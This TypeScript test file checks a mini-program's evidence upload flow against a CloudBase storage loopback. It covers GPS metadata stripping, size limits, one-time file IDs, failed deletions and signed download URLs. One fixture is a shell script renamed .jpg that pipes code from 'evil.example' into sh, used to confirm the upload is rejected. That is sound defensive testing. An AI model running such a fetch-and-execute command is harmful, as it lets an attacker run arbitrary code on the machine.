import { createHash } from 'node:crypto'
import { cloudbaseFiles } from '../../../cloudfunctions/adapters/cloudbase/cloudbase-files'
import type { Store } from '../../../cloudfunctions/ports/store'
import type { Deps } from '../../../cloudfunctions/services/context'
import { EVIDENCE_RULES } from '../../../src/domain/evidence.schema'
import { aSubmission } from '../../support/builders'
import { callAs } from '../../support/call-as'
import { startCloudbaseLoopback, type CloudbaseLoopback } from '../../support/cloudbase-loopback'
import { seedTwoShops } from '../../support/seed-shops'
import { makeDeps, openTestStore } from '../../support/test-deps'
import { gpsOf, jpegWithGps, metadataOf } from '../../evidence/support/images'
import { sdkAppFor } from './sdk-app'

// The mini-program's upload path end to end, in cloud mode: "the app" PUTs a file into the loopback
// bucket as Taro.cloud.uploadFile would, consumer.registerUpload takes it in through the real
// dispatch (policy, contract schema, handler), with the CloudBase adapters over the real SDK and the
// PGlite store — and a case page then hands out the storage's temporary URLs.
const ALICE = { subject: 'o-alice-openid' }
const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest('hex')
let n = 0
const uploadPath = (ext = 'jpg') => `uploads/${createHash('md5').update(`upload-${++n}`).digest('hex')}/file.${ext}`

describe('consumer.registerUpload — cloud mode', () => {
  let store: Store
  let loopback: CloudbaseLoopback
  let deps: Deps
  const register = (fileId: string, kind = 'photo', displayName = 'IMG_0001.JPG', who = ALICE) =>
    callAs(deps, 'consumer', { action: 'registerUpload', fileId, kind, displayName }, who)
  const inBucket = (folder: string) => [...loopback.objects.keys()].filter((k) => k.startsWith(folder))

  beforeAll(async () => {
    store = await openTestStore()
    await seedTwoShops(store)
    loopback = await startCloudbaseLoopback()
    deps = { ...makeDeps(store), ...cloudbaseFiles(sdkAppFor(loopback)) } // the same bundle cloud-deps.ts wires
  })
  afterAll(async () => {
    await loopback.close()
    await store.close()
  })
  beforeEach(() => loopback.objects.clear())

  it("when the app uploaded a photo with GPS, then it is registered as the caller's, stored without any metadata, and the original is deleted", async () => {
    const original = await jpegWithGps()
    expect(await gpsOf(original)).not.toBeNull()
    const path = uploadPath()
    const fileId = await loopback.uploadAsApp(path, original)

    const result = await register(fileId)
    if (!result.ok) throw new Error(result.error.code)
    expect(result.data).toMatchObject({ kind: 'photo', mime: 'image/jpeg', displayName: 'IMG_0001.JPG', url: null })

    expect(loopback.objects.has(path)).toBe(false) // the GPS-tagged original is gone
    const row = (await store.getEvidence(result.data.id))!
    expect(row).toMatchObject({ uploadedBy: ALICE.subject, caseId: null, storageKey: expect.stringMatching(/^cloud-[0-9a-f]{32}$/) })
    expect(inBucket('evidence/')).toEqual([`evidence/${row.storageKey}`])
    const kept = loopback.objects.get(`evidence/${row.storageKey}`)!
    expect(await gpsOf(kept)).toBeNull()
    expect(await metadataOf(kept)).toBeNull()
    expect([result.data.sha256, result.data.bytes]).toEqual([sha256(kept), kept.length])
  })

  it('when the upload is a script renamed .jpg, then UNSUPPORTED_FILE_TYPE, nothing is kept, and the upload is deleted too', async () => {
    const path = uploadPath()
    const fileId = await loopback.uploadAsApp(path, Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'))
    expect(await register(fileId, 'photo', 'holiday.jpg')).toEqual({
      ok: false,
      error: { code: 'UNSUPPORTED_FILE_TYPE', message: '不支持这种文件，请上传照片、视频、录音或PDF' },
    })
    expect([...loopback.objects.keys()]).toEqual([])
  })

  it('when a photo is over its 15 MB cap, then FILE_TOO_LARGE and the upload is deleted', async () => {
    const path = uploadPath()
    const fileId = await loopback.uploadAsApp(path, new Uint8Array(EVIDENCE_RULES.photo.maxBytes + 1).fill(0xff))
    expect(await register(fileId)).toMatchObject({ ok: false, error: { code: 'FILE_TOO_LARGE' } })
    expect([...loopback.objects.keys()]).toEqual([])
  })

  it('when the fileId names nothing that was uploaded, then EVIDENCE_NOT_FOUND', async () => {
    expect(await register(`${loopback.prefix}${uploadPath()}`)).toEqual({
      ok: false,
      error: { code: 'EVIDENCE_NOT_FOUND', message: '有附件未上传成功，请重新上传' },
    })
  })

  it('when the same fileId is registered twice, then the second time finds nothing (a fileId is good once)', async () => {
    const fileId = await loopback.uploadAsApp(uploadPath(), await jpegWithGps())
    expect((await register(fileId)).ok).toBe(true)
    expect(await register(fileId, 'photo', 'again.jpg', { subject: 'o-mallory' })).toMatchObject({
      ok: false,
      error: { code: 'EVIDENCE_NOT_FOUND' },
    })
  })

  it('when the fileId points at stored evidence rather than an upload, then the contract refuses it and the evidence stays', async () => {
    loopback.objects.set('evidence/0123456789abcdef0123456789abcdef', Buffer.from([1]))
    const result = await register(`${loopback.prefix}evidence/0123456789abcdef0123456789abcdef`)
    expect(result).toMatchObject({ ok: false, error: { code: 'VALIDATION_FAILED', fields: { fileId: '上传的文件标识不正确' } } })
    expect(inBucket('evidence/')).toEqual(['evidence/0123456789abcdef0123456789abcdef'])
  })

  it('when the original cannot be deleted, then the call fails and nothing is kept', async () => {
    const errors = jest.spyOn(console, 'error').mockImplementation(() => undefined)
    try {
      const path = uploadPath()
      const fileId = await loopback.uploadAsApp(path, await jpegWithGps())
      loopback.faults.set('storage.batchDeleteFile', { code: 'STORAGE_REQUEST_FAIL', message: 'storage request fail' })
      expect(await register(fileId)).toMatchObject({ ok: false, error: { code: 'INTERNAL' } })
      expect([...loopback.objects.keys()]).toEqual([path]) // still there (to be retried); no evidence copy
      expect(errors).toHaveBeenCalledTimes(1)
    } finally {
      errors.mockRestore()
    }
  })

  it('when a case with a registered photo is opened, then its file link is a ten-minute storage URL that opens the clean copy', async () => {
    const registered = await register(await loopback.uploadAsApp(uploadPath(), await jpegWithGps()))
    if (!registered.ok) throw new Error(registered.error.code)
    const receipt = await callAs(deps, 'consumer', aSubmission('WDXG26', { evidenceIds: [registered.data.id] }), ALICE)
    if (!receipt.ok) throw new Error(JSON.stringify(receipt.error))
    loopback.adminCalls.length = 0

    const detail = await callAs(deps, 'consumer', { action: 'getMyCase', caseId: receipt.data.caseId }, ALICE)
    if (!detail.ok) throw new Error(detail.error.code)
    const [file] = detail.data.evidence
    expect(file).toMatchObject({
      id: registered.data.id,
      url: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/cos\/evidence\/cloud-[0-9a-f]{32}\?sign=/),
    })
    expect(loopback.adminCalls.map((c) => [c.action, c.body.file_list])).toEqual([
      ['storage.batchGetDownloadUrl', [{ fileid: expect.stringMatching(/\/evidence\/cloud-[0-9a-f]{32}$/), max_age: 600 }]],
    ])
    const opened = new Uint8Array(await (await fetch(file.url)).arrayBuffer())
    expect(sha256(opened)).toBe(registered.data.sha256)
    expect(await gpsOf(opened)).toBeNull()
  })
})
